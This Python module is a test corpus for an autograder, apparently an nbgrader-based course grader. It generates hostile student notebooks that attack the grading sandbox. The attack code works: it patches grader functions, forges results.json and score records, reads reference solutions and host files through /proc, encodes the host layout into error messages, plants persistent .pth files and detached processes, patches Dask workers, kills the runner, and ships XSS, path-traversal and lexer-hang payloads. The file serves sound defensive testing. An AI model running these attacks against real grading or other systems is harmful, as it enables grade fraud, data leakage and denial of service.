"""A hostile corpus: notebooks that try to get points without solving anything.

Every submission is the untouched student release (every stub still ``raise
NotImplementedError()``) with one attack added at the end of the first solution cell.
Each attack is one class of the threat model (the student has read every file of the course,
the grader included) and would have earned points if grading ran next to the student's code:

====================  ==========================================================================
class                 what the notebook does
====================  ==========================================================================
``import_reference``  ``from solutions.reference import *``, or loads ``reference.py`` by the path
                      the editable install records, and uses it as its answers
``read_grader``       reads the source notebook, the gradebook and the hidden checks by path and
                      execs the solution cells it finds
``patch_grader``      replaces the grader's entry points, the probe runner and the comparison
                      functions in memory, and writes "passing" records into the channel itself
``forge_outputs``     makes IPython show ``14.0`` for every float, displays fake scores, puts a
                      script into an HTML output
``scratch_tricks``    reads the host paths it can find, plants links and FIFOs where the grader
                      once read its files, writes a huge integer and a deep list as records
``hang_unlimited``    patches the probes' time limits out and defines a part that never returns
``outlive``           starts a detached process that waits for grading to end and then rewrites
                      gradebooks, notebooks and a marker file
``write_environment`` drops a ``.pth`` and ``sitecustomize.py`` into the Python environment and
                      appends to the checkout's grader and ``course_lib``
``network``           connects to a server on the grading machine's loopback
``detect_grading``    recognises the grading environment and only then defines its "answers"
``report_host_paths`` raises errors holding what it can read of the machine (its environment's
                      paths, the mount table, the user id map, install records) for feedback
``encode_host_layout`` walks everything it can read (the mount table, ``/proc/self/*``, ``sys.path``,
                      module files and their compiled copies, install records, the environment,
                      the build configuration and the Python installation's own files and libraries)
                      and puts the paths and numbers found, compressed and encoded, into an error
``peek_frames``       searches the garbage collector and the callers' frames for expected values
``forge_probes``      replaces entries of the runtime's probe table: the model's report a
                      Nature-DQN whose weights are all 0 (and outputs of 0), the policy's
                      recompute the outputs with the fixture network the sandbox holds
``write_results``     writes a full-marks ``results.json`` where Gradescope and PrairieLearn read
                      it (and into ``{marker}``), and leaves a process that writes it again later
``ignore_interrupt``  (:data:`COSTLY`) makes every later cell hang with SIGINT ignored, and its own
                      cell hang when it is replayed after a kill
``flood_envelope``    reaches the executor's reply pipe through the call stack and sends lines of
                      millions of nested lists where a record's text belongs
``recursion_frame``   writes lines of 4 KB of nested JSON (a ``RecursionError``, not a
                      ``ValueError``, for ``json.loads``) to the runner that supervises it
``leave_ipc``         leaves a 64 MiB System V shared memory segment (mode 0666), a message
                      queue and a semaphore set (key ``0x0a2c0033``) for the next run
``reach_scheduler``   reads a Dask scheduler's address from ``/proc`` and the environment,
                      connects, and patches every worker's judging through ``Client.run``
``every_cell_to_its_limit`` (:data:`COSTLY`) makes every later cell run to its time limit with
                      SIGINT ignored (killed), and return at once when it is replayed
``fork_burners``      (:data:`FORK_BURNERS`) forks four processes that spin on the CPU, each in a
                      session of its own, then waits: the wall clock counts none of them
``kill_runner``       (:data:`COSTLY`) kills and stops the supervising runner, by its parent's pid,
                      by name, ``kill(-1)`` and ``kill(0)``
====================  ==========================================================================

:data:`NOTEBOOK_ATTACKS` change the notebook itself rather than its code: ``lexer_fence`` (a
markdown answer with fenced blocks in :data:`SLOW_LEXERS`, whose pygments lexers never return or
take super-linear time) and ``lexer_metadata`` (the notebook's language and a cell's
``magics_language`` set to such a lexer), aimed at the grader's own process, which renders the
notebook for nbgrader, the feedback and formgrader.

Attacks on the trusted side that no notebook carries are kept as tests beside the code they
attack, as well as in the corpus where a notebook can carry them: the channel's envelope
flooded with nested lists (``tests/test_sandbox_isolation.py``), a ``timestamp.txt`` the student
wrote (``tests/test_late_and_roster.py``), System V IPC left for the next run in container mode
(``tests/test_sandbox_isolation.py``), a Dask worker in container mode without a network fence
and a client without the cluster's certificate (``tests/test_cluster_grading.py``), markup and
paths aimed at the similarity report's pages (:data:`REPORT_ATTACKS`, ``tests/test_similarity.py``).

``{token}``, ``{marker}`` and ``{port}`` are filled in by the test (a unique process name, a
file outside the sandbox, the port of a server on the host).
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
from nbformat import NotebookNode

__all__ = [
    "ATTACKS",
    "COSTLY",
    "IPC_KEY",
    "NOTEBOOK_ATTACKS",
    "PERSISTENT",
    "REPORT_ATTACKS",
    "SLOW_LEXERS",
    "hostile_submission",
]

RELEASE = Path(__file__).resolve().parents[2] / "notebooks" / "a2c.ipynb"

# Paths of the instructor's checkout, as a student who read the install would find them.
_FIND_CHECKOUT = r"""
import importlib, os, pathlib, sys
def _checkouts():
    found = {pathlib.Path.cwd(), *pathlib.Path.cwd().parents}
    for finder in sys.meta_path:
        for path in getattr(importlib.import_module(finder.__module__), "MAPPING", {}).values():
            found.add(pathlib.Path(path).parent)
    for entry in sys.path:
        found.add(pathlib.Path(entry).parent)
    found |= {pathlib.Path(p) for p in ("/work/main", "/root", "/home", os.path.expanduser("~"))}
    return [p for p in found if (p / "solutions").is_dir() or (p / "autograder").is_dir()]
"""

ATTACKS = {
    "import_reference": _FIND_CHECKOUT
    + r"""
try:
    from solutions.reference import *  # noqa: F403
    print("imported the reference")
except Exception as error:
    print("import blocked:", type(error).__name__)
for _root in _checkouts():
    _file = _root / "solutions" / "reference.py"
    if _file.is_file():
        exec(compile(_file.read_text(), str(_file), "exec"))
        print("executed", _file)
""",
    "read_grader": _FIND_CHECKOUT
    + r"""
import glob, json
_paths = []
for _root in _checkouts():
    _paths += glob.glob(str(_root / "solutions" / "a2c.ipynb"))
    _paths += glob.glob(str(_root / "autograder" / "core" / "judges" / "*.py"))
# where grading files could be (walking the whole file system, Python included, takes minutes)
for _root in ("/tmp", "/home", "/srv", "/submission", *map(str, _checkouts())):
    for _name in ("gradebook.db", "a2c.ipynb", "reference.py"):
        _paths += glob.glob(f"{_root}/**/{_name}", recursive=True)[:20]
for _path in _paths:
    try:
        _text = open(_path, encoding="utf-8", errors="replace").read()
        print("read", _path, len(_text))
        if _path.endswith(".ipynb"):
            for _cell in json.loads(_text)["cells"]:
                if "### BEGIN SOLUTION" in "".join(_cell["source"]):
                    exec("".join(_cell["source"]))
    except Exception as error:
        print("blocked", _path, type(error).__name__)
""",
    "patch_grader": r"""
import glob, json, os, sys, types
import numpy as _np, torch as _torch
_np.allclose = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_torch.allclose = lambda *a, **k: True
_torch.testing.assert_close = lambda *a, **k: None
_fake = types.ModuleType("autograder.core.judging")
_fake.grade_part = lambda *a, **k: 99.0
sys.modules["autograder"] = types.ModuleType("autograder")
sys.modules["autograder.core.judging"] = _fake
_forged = {"ok": True, "passed": True, "score": 99.0, "observation": {"passed": True}}
for _name in ("grading_runtime",):
    try:
        _harness = __import__(_name + ".harness", fromlist=["x"])
        _probes = __import__(_name + ".probes", fromlist=["x"])
    except ImportError:
        continue
    _harness.guarded = lambda function, seconds: dict(_forged)
    _probes.run_probe = lambda *a, **k: {}
    _harness.run_steps = lambda candidate, steps, scale=1.0: ((s["key"], dict(_forged)) for s in steps)
# Forged lines straight into the grader's channel, through the supervisor's open files.
_dumps = json.dumps
for _fd in glob.glob(f"/proc/{os.getppid()}/fd/*"):
    try:
        with open(_fd, "wb") as _out:
            for _part in ("model", "policy", "compute_value_targets", "merge_time_batch", "a2c", "gae"):
                for _i in range(12):
                    for _key in ("outputs", "shapes", "types", "values", "sampling"):
                        _out.write((json.dumps({"part": _part, "key": f"{_key}.{_i}", "record": _dumps(_forged)}) + "\n").encode())
    except OSError:
        pass
""",
    "scratch_tricks": _FIND_CHECKOUT
    + r"""
# What a student who read the old grader would try: learn the host paths, then plant links and
# FIFOs where the grader used to read the log, the records and the executed notebook.
import os, pathlib
print(open("/proc/1/cmdline", "rb").read()[:300])
print(open("/proc/self/mountinfo").read()[:3000])
for _name in (".sandbox.log", "records", "work/a2c.executed.ipynb"):
    _path = pathlib.Path(_name)
    _path.parent.mkdir(parents=True, exist_ok=True)
    for _target in ("/etc/shadow", "/dev/zero", "/proc/1/root"):
        try:
            _path.unlink(missing_ok=True)
            _path.symlink_to(_target)
        except OSError as error:
            print("link", _name, error)
try:
    os.mkfifo(".sandbox.log.fifo")
except OSError as error:
    print("fifo", error)
# a record holding a huge integer and a deep list, written straight into the channel
_fd = int(os.environ.get("A2C_CHANNEL_FD", "-1"))
for _fd in (_fd, *range(3, 12)):
    try:
        os.write(_fd, b'{"part": "model", "key": "build.0", "record": "{\\"ok\\": true, \\"observation\\": {\\"n\\": ' + b"1" * 400 + b'}}"}\n')
        os.write(_fd, b'{"part": "policy", "key": "x", "record": "' + b"[" * 5000 + b'"}\n')
    except OSError:
        pass
""",
    "hang_unlimited": r"""
# Time limits patched out, then parts that never return: each may cost its own part only.
import contextlib
for _name in ("grading_runtime.harness",):
    try:
        _harness = __import__(_name, fromlist=["x"])
        _harness.time_limit = lambda seconds: contextlib.nullcontext()
    except ImportError:
        pass
def make_model(n_actions):
    while True:
        try:
            pass
        except BaseException:
            pass
""",
    "forge_outputs": r"""
from IPython import get_ipython
from IPython.display import HTML, display
_ip = get_ipython()
_ip.display_formatter.formatters["text/plain"].for_type(float, lambda x, p, cycle: p.text("14.0"))
_ip.display_formatter.formatters["text/plain"].for_type(type(None), lambda x, p, cycle: p.text("14.0"))
def _forge(*args, **kwargs):
    display({"text/plain": "14.0"}, raw=True)
    print("Part 'model' (make_model): 1 / 1 points")
_ip.events.register("post_run_cell", lambda result: _forge())
display(HTML("<script>document.title = 'FORGED-SCRIPT'; alert('FORGED-SCRIPT')</script>"))
""",
    "outlive": r'''
import os, subprocess, sys, textwrap
_script = textwrap.dedent("""
    import glob, os, sys, time
    time.sleep(6)
    for path in glob.glob("/**/gradebook.db", recursive=True) + glob.glob("/**/*.ipynb", recursive=True):
        try:
            open(path, "w").write("rewritten after grading")
        except OSError:
            pass
    open("{marker}", "w").write("outlived grading")
    time.sleep(60)
""")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _script, "{token}"])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", _script, "{token}"], start_new_session=True)
''',
    "write_environment": _FIND_CHECKOUT
    + r"""
import site, sys
_payload = "import sys; sys.stderr.write('{token}')\n"
for _dir in {*site.getsitepackages(), *sys.path}:
    for _name, _text in (("zz_{token}.pth", _payload), ("sitecustomize.py", "# {token}\n")):
        try:
            with open(os.path.join(_dir, _name), "a") as _out:
                _out.write(_text)
            print("wrote", _dir, _name)
        except OSError as error:
            print("blocked", _dir, type(error).__name__)
for _root in _checkouts():
    for _rel in ("autograder/core/judging/", "autograder/core/judging/parts/model.py", "course_lib/__init__.py"):
        try:
            with open(_root / _rel, "a") as _out:
                _out.write("\n# {token}\n")
        except OSError as error:
            print("blocked", _rel, type(error).__name__)
import course_lib
try:
    with open(os.path.join(os.path.dirname(course_lib.__file__), "__init__.py"), "a") as _out:
        _out.write("# {token}\n")
except OSError as error:
    print("blocked course_lib", type(error).__name__)
""",
    "network": r"""
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as _conn:
        _conn.sendall(b"{token}")
        print("connected")
except OSError as error:
    print("network blocked:", error)
""",
    "detect_grading": r"""
import os, socket
_signs = [os.environ.get("NBGRADER_EXECUTION"), os.environ.get("A2C_KIT_QUICK"), socket.gethostname()]
if any(_signs):
    print("grading detected:", _signs)
    def make_model(n_actions):  # "answers" that only exist under grading
        return None
    class Policy:
        def __init__(self, model):
            pass
        def act(self, inputs):
            return {"actions": 0}
""",
    "report_host_paths": r"""
# Whatever this process learns of the grading machine, put where feedback quotes it: an error.
import glob, os, re, sys
def _seen():
    found = []
    try:
        table = open("/proc/self/mountinfo").read()
        found += re.findall(r"uid=[0-9]+", table)[:1]  # the host user id of the sandbox
        found += [line.split()[3] for line in table.splitlines() if len(line.split()) > 4]
    except OSError:
        pass
    found += [sys.prefix, sys.base_prefix, sys.executable, os.getcwd()]
    for entry in sys.path:
        for name in glob.glob(os.path.join(entry, "*.dist-info/direct_url.json")):
            try:
                found += re.findall(r"file://[^\"]*", open(name).read())
            except OSError:
                pass
    skip = {"/", "/null", "/zero", "/full", "/random", "/urandom", "/tty", "/usr", "/etc"}
    return " ".join(dict.fromkeys(f for f in found if f not in skip))
def make_model(n_actions):
    raise RuntimeError("LEAK: " + _seen())
""",
    "encode_host_layout": r"""
# Everything this process can read of the machine, as path prefixes and numbers, encoded (so
# that no filter by exact string finds it) into the error that feedback quotes.
import base64, glob, json, marshal, os, re, sys, zlib
def _paths(text):
    # Absolute paths only: not the "/x" inside a relative path or a hash
    return re.findall(r"(?<![A-Za-z0-9._@+/-])/[A-Za-z0-9._@+-]+(?:/[A-Za-z0-9._@+-]+)*", text)
def _read(path, binary=False):
    try:
        with open(path, "rb" if binary else "r", errors=None if binary else "replace") as f:
            return f.read(1 << 20)
    except OSError:
        return b"" if binary else ""
def _walk():
    texts = [sys.prefix, sys.base_prefix, sys.exec_prefix, sys.executable, os.getcwd(), *sys.path]
    texts += [f"{k}={v}" for k, v in os.environ.items()]
    for name in ("mountinfo", "mounts", "cgroup", "uid_map", "gid_map", "status", "environ",
                 "cmdline", "maps", "loginuid", "mountstats"):
        texts.append(_read(f"/proc/self/{name}"))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            texts += [_read(f"/proc/{pid}/cmdline"), _read(f"/proc/{pid}/environ")]
            texts += [_read(f"/proc/{pid}/mountinfo"), _read(f"/proc/{pid}/uid_map")]
    for name in [os.path.join(sys.prefix, "pyvenv.cfg"), *glob.glob(sys.prefix + "/bin/*")]:
        texts.append(_read(name).split("\0")[0][:20000])  # the environment's scripts
    import sysconfig  # the build configuration, and the installation's own files
    texts += [str(value) for value in sysconfig.get_config_vars().values()]
    for pattern in ("/bin/*", "/lib/lib*.so*", "/lib/pkgconfig/*", "/lib/python3*/_sysconfigdata*",
                    "/lib/python3*/config-*/*", "/lib/python3*/lib-dynload/*.so"):
        for name in glob.glob(sys.base_prefix + pattern)[:300]:
            try:
                with open(name, "rb") as f:
                    data = f.read(64 << 20)
            except OSError:
                continue
            texts.append("\n".join(s.decode() for s in re.findall(rb"[\x20-\x7e]{4,}", data)))
    for module in list(sys.modules.values()):
        for attribute in ("__file__", "__cached__"):
            value = getattr(module, attribute, None)
            if isinstance(value, str):
                texts.append(value)
        cached = getattr(module, "__cached__", None)
        if isinstance(cached, str):
            try:
                texts.append(marshal.loads(_read(cached, True)[16:]).co_filename)
            except Exception:
                pass
    for entry in sys.path:
        for pattern in ("*.pth", "*.dist-info/direct_url.json", "*.dist-info/RECORD",
                        "*.egg-link", "__editable__*"):
            for name in glob.glob(os.path.join(entry, pattern))[:400]:
                texts.append(_read(name)[:20000])
        for name in glob.glob(os.path.join(entry, "*/__pycache__/__init__*.pyc"))[:400]:
            try:
                texts.append(marshal.loads(_read(name, True)[16:]).co_filename)
            except Exception:
                pass
    prefixes, numbers = set(), set()
    for text in texts:
        for path in _paths(text):
            parts = path.rstrip("/").split("/")
            for depth in range(3, min(len(parts), 6) + 1):  # /a/b to /a/b/c/d/e
                prefixes.add("/".join(parts[:depth]))
        for line in text.splitlines():  # user and group ids: id maps, status, mount options
            if line.startswith(("Uid:", "Gid:")) or re.match(r"\s*[0-9]+\s+[0-9]+\s+[0-9]+$", line):
                numbers |= {int(n) for n in re.findall(r"[0-9]+", line)}
        numbers |= {int(n) for n in re.findall(r"\b[ug]id=([0-9]+)", text)}
    for path in ("/", "/tmp", "/submission", "/opt/venv", "/grader/bin", "/proc/self"):
        try:
            info = os.stat(path)
            numbers |= {info.st_uid, info.st_gid}
        except OSError:
            pass
    numbers |= {os.getuid(), os.geteuid(), os.getgid()}
    # What the documentation says the sandbox shows is no news: only the rest is sent.
    known = ("/opt/venv", "/opt/python", "/grader", "/submission", "/proc", "/dev", "/usr",
             "/etc", "/sys", "/bin", "/lib", "/lib64", "/sbin")
    news = sorted(p for p in prefixes if not any(p == k or p.startswith(k + "/") for k in known))
    # "/a/b" names every folder below it; a build's relative names ("$(srcdir)/Include/x.h")
    # start with a capital or a sign, a machine's top folders never do
    news = [p for p in news if p.count("/") == 2 and re.match(r"/[a-z]", p)]
    report = {"seen": len(prefixes), "prefix": sys.prefix, "paths": news,
              "ids": ",".join(format(n, "x") for n in sorted(numbers) if n >= 1000)}
    return base64.b64encode(zlib.compress(json.dumps(report).encode(), 9)).decode()
_calls = []
def make_model(n_actions):  # each call sends the next piece (an error's first 300 characters)
    blob = _walk()
    pieces = [blob[i:i + 200] for i in range(0, len(blob), 200)]
    index = len(_calls) % len(pieces)
    _calls.append(1)
    raise RuntimeError(f"LAYOUT {index}/{len(pieces)}:{pieces[index]}:END")
""",
    "peek_frames": r"""
import gc, sys
def _loot():
    found = {}
    for _obj in gc.get_objects():
        if isinstance(_obj, dict):
            for _key in ("expected", "want", "reference", "make_model", "Policy"):
                if _key in _obj and _obj[_key] is not None and _key not in found:
                    found[_key] = _obj[_key]
    _frame = sys._getframe()
    while _frame is not None:
        for _key, _value in _frame.f_locals.items():
            if _key in ("expected", "want", "reference"):
                found[_key] = _value
        _frame = _frame.f_back
    return found
def make_model(n_actions):
    loot = _loot()
    reference = loot.get("reference")
    if reference is not None and hasattr(reference, "make_model"):
        return reference.make_model(n_actions)
    raise NotImplementedError()
""",
    "forge_probes": r"""
# No model, no policy: the probe table's entries report what the gates once accepted.
import numpy as _np, torch as _torch, torch.nn.functional as _F
import grading_runtime.fixtures as _X, grading_runtime.probes as _P
from course_lib.checks.properties import capture as _capture
_TRUNK = [("conv2d", (32, 4, 8, 8), 4), ("conv2d", (64, 32, 4, 4), 2), ("conv2d", (64, 64, 3, 3), 1), ("linear", (512, 3136), 0)]
def _zero_layers(A):
    layers = []
    for kind, shape, stride in _TRUNK + [("linear", (A, 512), 0), ("linear", (1, 512), 0)]:
        layer = {"kind": kind, "shape": list(shape), "bias_shape": [shape[0]],
                 "weight": _np.zeros(shape, _np.float32), "bias": _np.zeros(shape[0], _np.float32)}
        if kind == "conv2d":
            layer.update(stride=[stride, stride], padding=[0, 0], dilation=[1, 1], groups=1)
        layers.append(layer)
    return layers
def _zeros(n, A):  # what a Nature-DQN with every weight 0 outputs, with a graph
    grad = _torch.zeros((), requires_grad=True)
    return _capture((_torch.zeros(n, A) + grad, _torch.zeros(n) + grad))
def _model_net(make_model, case):
    n, A = case["n"], case["n_actions"]
    out, one = _zeros(n, A), _zeros(1, A)
    names = ["layer%d.weight" % i for i in range(6)]
    size = sum(int(_np.prod(s)) + s[0] for _, s, _ in _TRUNK) + 513 * A + 513
    return {
        "is_module": True, "type": {"kind": "other", "type": "Module"}, "output": out,
        "layers": _zero_layers(A), "float_output": out, "one_output": one,
        "float_input_unchanged": True, "trainable": size, "logits_requires_grad": True,
        "values_requires_grad": True, "logits": names, "values": names, "outside_parameters": [],
        "original": out, "reloaded": out,
        "drawn": {"output": out, "mirror_output": out, "float_output": out, "one_output": one,
                  "float_input_unchanged": True},
    }
def _policy_act(Policy, case):
    net = _X.make_fixture_model(case["model"], case["n_actions"], case["init_seed"])
    logits, values = net(_torch.from_numpy(_X.random_frames(case["n"], case["obs_seed"])))
    actions = _torch.zeros(case["n"], dtype=_torch.int64)
    log_probs = _F.log_softmax(logits, -1)[_torch.arange(case["n"]), actions]
    out = {"actions": actions.numpy(), "logits": logits, "log_probs": log_probs, "values": values}
    reach = {f"{key}_reach_model": True for key in ("logits", "log_probs", "values")}
    return {"returned": _capture(out, data=False), "keys": {k: _capture(v) for k, v in out.items()}, **reach}
def _policy_samples(Policy, case):  # counts drawn from the case's own softmax
    logits = _np.asarray(case["logits"], dtype=_np.float64)
    probs = _np.exp(logits - logits.max(-1, keepdims=True))
    probs /= probs.sum(-1, keepdims=True)
    rows, rng = _np.asarray(case["rows"]), _np.random.default_rng(0)
    return {"counts": _np.stack([rng.multinomial(int((rows == r).sum()) * int(case["calls"]), probs[r]) for r in (0, 1)])}
_P.PROBES.update(
    model_net=_model_net,
    model_outputs=lambda make_model, case: {"output": _zeros(case["n"], case["n_actions"])},
    model_negative_values=lambda make_model, case: {"max_value": [0.0, float(case["target"])]},
    policy_act=_policy_act,
    policy_samples=_policy_samples,
)
""",
    "write_results": r"""
# A grading platform reads results/results.json after the grader ends: write full marks there
# now, and again from a detached process once the grader has written its own.
import json, os, time
_forged = {"score": 100.0, "gradable": True, "output": "FORGED-RESULTS", "tests": []}
def _write_everywhere():
    for _folder in ("{marker}", "/autograder/results", "/grade/results"):
        _path = os.path.join(_folder, "results.json")
        try:
            os.makedirs(_folder, exist_ok=True)
            with open(_path, "w") as _out:
                json.dump(_forged, _out)
            print("wrote", _path)
        except OSError as error:
            print("blocked", _path, type(error).__name__)
_write_everywhere()
if os.fork() == 0:
    os.setsid()
    for _ in range(60):
        time.sleep(0.5)
        _write_everywhere()
    os._exit(0)
""",
    "flood_envelope": r"""
# Reach the executor's reply pipe through the call stack and send, as the first probe steps'
# replies, lines of nested lists where a record's text belongs (the runner forwards them).
import sys
def _reply_pipe():
    for _frame in list(sys._current_frames().values()):
        while _frame is not None:
            if "replies" in _frame.f_locals and "seq" in _frame.f_locals:
                return _frame.f_locals["replies"], _frame.f_locals["seq"]
            _frame = _frame.f_back
    return None, None
_flooded = []
def make_model(n_actions):
    replies, seq = _reply_pipe()
    if replies is not None and not _flooded:
        _flooded.append(seq)
        nested = b"[" + b"[]," * 3_000_000 + b"[]]"
        for _ in range(2):
            replies.write(b'{"key": "flood", "record": %s, "seq": %d}\n' % (nested, seq))
        replies.flush()
    raise NotImplementedError()
""",
    "recursion_frame": r"""
# 4 KB of nested JSON, a RecursionError for json.loads, sent to the process that supervises this
# one as a reply line (the executor's reply pipe is its first argument), as a request line
# would be, then a reply of its own with the request's number.
import os, sys
_fd = int(sys.argv[1]) if len(sys.argv) > 1 and sys.argv[1].isdigit() else None
if _fd is not None:
    _deep = b"[" * 4096 + b"]" * 4096
    os.write(_fd, _deep + b"\n")
    os.write(_fd, b'{"seq": 1, "key": ' + _deep + b', "record": ' + _deep + b"}\n")
""",
    "leave_ipc": r"""
# Leave System V IPC behind for the next run (another user id): a 64 MiB shared memory segment
# any user may open, with a message in it, a message queue and a semaphore set.
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_segment = _libc.shmget(0x0A2C0033, 64 * 1024 * 1024, 0o1666)  # IPC_CREAT | 0666
if _segment >= 0:
    _address = _libc.shmat(_segment, None, 0)
    if _address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(_address, b"left for the next student", 25)
print("ipc", _segment, _libc.msgget(0x0A2C0033, 0o1666), _libc.semget(0x0A2C0033, 1, 0o1666))
""",
    "reach_scheduler": r"""
# Graded by a Dask worker? Find the scheduler's address (the worker's command line, Dask's
# variables), connect to it, and patch every worker's judging through Client.run.
import os, re, socket
_addresses = {os.environ.get("DASK_SCHEDULER_ADDRESS", "")}
for _entry in os.listdir("/proc"):
    if _entry.isdigit():
        try:
            _cmd = open(f"/proc/{_entry}/cmdline", "rb").read().replace(b"\0", b" ").decode()
        except (OSError, UnicodeDecodeError):
            continue
        _addresses.update(re.findall(r"(?:tcp|tls)://[\w.-]+:\d+", _cmd))
def _full_marks(dask_worker=None):  # every later grading on that worker: full marks
    from autograder.core import assessor
    from autograder.core.reports.grade_result import PartScore
    judge = assessor.Assessor._judge
    def _judge(self, result, *args):
        judge(self, result, *args)
        for key, part in result.parts.items():
            result.parts[key] = PartScore(part.max, part.max, part.feedback)
    assessor.Assessor._judge = _judge
    return "patched"
for _address in sorted(a for a in _addresses if a):
    _host, _port = _address.split("://")[1].rsplit(":", 1)
    try:
        socket.create_connection((_host, int(_port)), timeout=3).close()
        print("reached", _address)
        from distributed import Client
        with Client(_address, timeout=5) as _client:
            print("patched", _client.run(_full_marks))
    except Exception as error:
        print("refused", _address, type(error).__name__, str(error)[:200])
""",
}

#: The key of ``leave_ipc``'s IPC objects (``/proc/sysvipc`` lists keys in decimal).
IPC_KEY = 0x0A2C0033

#: Attacks meant to change what happens after their own grading.
PERSISTENT = ("outlive", "write_environment")


#: Attacks on the grading's time: each must cost at most the runner's budget (one cell limit and
#: a reserve), and earn nothing. Graded apart, with a short cell limit.
COSTLY = {
    "ignore_interrupt": r'''
# Every later cell hangs and ignores SIGINT; after a kill, this cell hangs when it is replayed.
import os, signal, tempfile, time
from IPython import get_ipython
def _hang(*args, **kwargs):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.1)
_mark = os.path.join(tempfile.gettempdir(), ".{token}")  # the run's own: kept across kills
if os.path.exists(_mark):
    _hang()
open(_mark, "w").close()
_calls = []
def _later(*args, **kwargs):
    _calls.append(1)
    if len(_calls) > 1:
        _hang()
get_ipython().events.register("post_run_cell", _later)
''',
    "every_cell_to_its_limit": r'''
# Every later cell runs to its time limit with SIGINT ignored, so it is killed; replayed after
# the kill (the run's own folder remembers it ran), it returns at once: every kill replays the
# notebook, and the next cell hangs again.
import hashlib, os, signal, tempfile, time
from IPython import get_ipython
_seen = os.path.join(tempfile.gettempdir(), ".{token}-cells")
os.makedirs(_seen, exist_ok=True)
def _to_the_limit(info):
    mark = os.path.join(_seen, hashlib.sha256(info.raw_cell.encode()).hexdigest())
    if os.path.exists(mark):
        return  # a replay: fast
    open(mark, "w").close()
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.1)
get_ipython().events.register("pre_run_cell", _to_the_limit)
''',
    "kill_runner": r'''
# Kill or stop the process that supervises this one, by every way it could be reached.
import os, signal
for _pid in (os.getppid(), 1):
    for _sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(_pid, _sig)
        except (OSError, ValueError) as error:
            print("kill", _pid, error)
for _entry in os.listdir("/proc"):
    if _entry.isdigit() and int(_entry) != os.getpid():
        try:
            if b"runner.py" in open(f"/proc/{_entry}/cmdline", "rb").read():
                os.kill(int(_entry), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print("kill -1", error)
os.kill(0, signal.SIGKILL)
''',
}


#: Forks four processes that spin on the CPU, each in a session of its own (out of the
#: executor's process group), then waits: the run's CPU cap, every process counted, stops it.
FORK_BURNERS = r'''
import os, time
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(3600)
'''


#: Lexers a student can name that never return on ``<!--`` (mcschema) or that a fuzz of every
#: pygments lexer found super-linear.
SLOW_LEXERS = ("mcschema", "easytrieve", "systemd", "autohotkey", "gherkin", "nemerle", "fan")


def _lexer_fence(nb: NotebookNode) -> None:
    """A markdown answer with a fenced block in each of :data:`SLOW_LEXERS`."""
    blocks = "\n\n".join(f"```{name}\n<!--\n{'<!-- ' * 200}\n```" for name in SLOW_LEXERS)
    nb.cells.append(nbformat.v4.new_markdown_cell(f"My answer, with code:\n\n{blocks}"))


def _lexer_metadata(nb: NotebookNode) -> None:
    """The notebook's language (``language_info``, ``kernelspec``) and a cell's
    ``magics_language`` set to mcschema, and ``<!--`` in the code cells it would highlight."""
    nb.metadata["language_info"] = {"name": "mcschema", "pygments_lexer": "mcschema"}
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "x", "language": "mcschema"}
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source += '\n_ = """\n<!--\n"""  # mcschema never returns on <!--'
            cell.metadata["magics_language"] = "mcschema"


def _evicted_markdown(nb: NotebookNode) -> None:
    """Three answers with an ``ipython3`` fence of 19,000 dots (IPython's lexer is quadratic
    on them: seconds each), then 520 short cells: once past a 512-entry cache of renderings,
    nbgrader's own pass under the gradebook's lock rendered the slow ones again."""
    for number in range(3):
        nb.cells.append(nbformat.v4.new_markdown_cell(f"Answer {number}:\n\n```ipython3\n{'.' * 19_000}\n```"))
    for number in range(520):
        nb.cells.append(nbformat.v4.new_markdown_cell(f"note {number}"))


#: Attacks made of the notebook itself, on what the trusted side does with it (rendering):
#: ``lexer_fence`` and ``lexer_metadata`` name a pygments lexer that never returns, which the
#: feedback, nbgrader and formgrader would run in the grader's own process; ``evicted_markdown``
#: makes the course's own lexer slow and the grader render it again under the gradebook's lock.
NOTEBOOK_ATTACKS = {
    "lexer_fence": _lexer_fence,
    "lexer_metadata": _lexer_metadata,
    "evicted_markdown": _evicted_markdown,
}

#: Code a student puts into a graded part for the instructor's similarity report
#: (:mod:`autograder.similarity`), which shows the matching parts of a pair side by side in HTML
#: pages on the instructor's machine: ``escape_page`` closes the page's code block and opens a
#: script, an attribute and a comment, and writes ``{marker}`` if the code were ever run rather
#: than read as text; ``escape_path`` is a student id (a hand-edited ``grades.csv``) that would
#: name a pair page outside ``pairs/``. ``tests/test_similarity.py`` carries both.
REPORT_ATTACKS = {
    "escape_page": (
        'x = "</pre></td><script>alert(1)</script><img src=x onerror=alert(2)><!--"\n'
        'open("{marker}", "w")'
    ),
    "escape_path": "../../../outside/<script>",
}


def hostile_submission(attack: str, **fill: str) -> NotebookNode:
    """The untouched release with ``ATTACKS[attack]`` (its ``{...}`` fields filled in), or
    changed by ``NOTEBOOK_ATTACKS[attack]``."""
    if attack in NOTEBOOK_ATTACKS:
        nb = nbformat.read(RELEASE, as_version=4)
        NOTEBOOK_ATTACKS[attack](nb)
        return nbformat.from_dict(json.loads(json.dumps(nb)))
    code = {**ATTACKS, **COSTLY}[attack]
    for name, value in fill.items():
        code = code.replace("{" + name + "}", str(value))
    nb = nbformat.read(RELEASE, as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "model":
            cell.source = cell.source + "\n\n" + code
            break
    else:  # pragma: no cover - the release always has the model cell
        raise ValueError("no model cell in the release")
    return nbformat.from_dict(json.loads(json.dumps(nb)))
